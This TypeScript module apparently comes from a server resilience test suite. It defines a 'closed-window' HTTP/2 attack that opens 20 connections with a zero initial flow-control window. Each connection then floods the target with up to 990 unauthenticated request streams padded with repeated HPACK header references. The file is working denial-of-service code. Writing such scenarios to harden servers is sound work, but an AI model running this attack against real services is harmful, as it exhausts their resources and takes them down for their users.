/** Refused calls whose answers wait for a window that never opens. */
import {
  clientHello,
  FRAME,
  http2Frame,
  keptHeader,
  NEWEST_ENTRY,
  settings,
} from '../../tools/network/http2-frames.ts';
import { CHECK, jsonHeaders } from '../requests.ts';
import type { Attack } from '../scenario.ts';
import { attackInLanes, streamEnds, WHOLE_REQUEST } from '../wire.ts';

const CONNECTIONS = 20;
const STREAMS = 990;
const INITIAL_WINDOW_SIZE = 4;
const REFERENCES = 100;

export const closedWindow: Attack = {
  name: 'closed-window',
  title: `JSON calls without a token, whose refusals wait for a closed window, on ${CONNECTIONS} connections`,
  kind: 'strangers',
  run: (target, tally) =>
    attackInLanes(target, tally, CONNECTIONS, async ({ open, over }, index) => {
      const hello = clientHello(settings({ [INITIAL_WINDOW_SIZE]: 0 }));
      const onData = streamEnds(() => {
        tally.answered += 1;
      });
      const wire = await open({ port: target.httpPort, address: index, hello, onData });
      if (wire === null) return null;
      const call = jsonHeaders(CHECK);
      const kept = keptHeader('x-kept', 'x'.repeat(500));
      const references = Buffer.alloc(REFERENCES, NEWEST_ENTRY);
      for (let number = 0; number < STREAMS && !over(); number += 1) {
        const block = Buffer.concat([call, ...(number === 0 ? [kept] : []), references]);
        if (!(await wire.write(http2Frame(FRAME.HEADERS, WHOLE_REQUEST, number * 2 + 1, block)))) break;
        tally.sent += 1;
      }
      return wire;
    }),
};
